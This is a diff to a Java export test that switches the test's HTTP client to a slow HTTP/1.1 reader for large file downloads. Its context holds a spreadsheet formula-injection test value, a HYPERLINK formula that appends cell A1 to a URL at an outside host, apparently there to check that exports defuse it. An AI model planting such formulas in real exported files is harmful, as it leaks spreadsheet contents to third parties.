@@ -56,6 +56,9 @@ class ExportTest {
     private static final String FORMULA = "=HYPERLINK(\"http://example.vn?x=\"&A1,\"Xem\"), đủ hồ sơ\r\nvà \"phụ lục\"";
     private static final int MANY = 20_000;
 
+    // By HTTP/2 it would take 16 MB of a file before anybody reads it, which is nearly the whole.
+    private static HttpClient slowReader;
+
     private static final String UNDER_WAY = """
             from pg_stat_activity where state <> 'idle' and query like '%jsonb_extract_path_text%' and pid <> pg_backend_pid()""";
 
@@ -69,6 +72,7 @@ class ExportTest {
     @BeforeAll
     static void readersTakeLittleAtATime() {
         System.setProperty("jdk.httpclient.receiveBufferSize", "65536");
+        slowReader = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
     }
 
     @AfterEach
@@ -208,7 +212,7 @@ class ExportTest {
     private InputStream open(String format) throws IOException, InterruptedException {
         var uri = URI.create(manyFigures.toString().replace(".csv", "." + format));
         var request = HttpRequest.newBuilder(uri).header("Authorization", "Bearer " + Tokens.of("viewer")).build();
-        return HttpClient.newHttpClient().send(request, BodyHandlers.ofInputStream()).body();
+        return slowReader.send(request, BodyHandlers.ofInputStream()).body();
     }
 
     private static List<Map<String, String>> exported(String query) throws IOException {
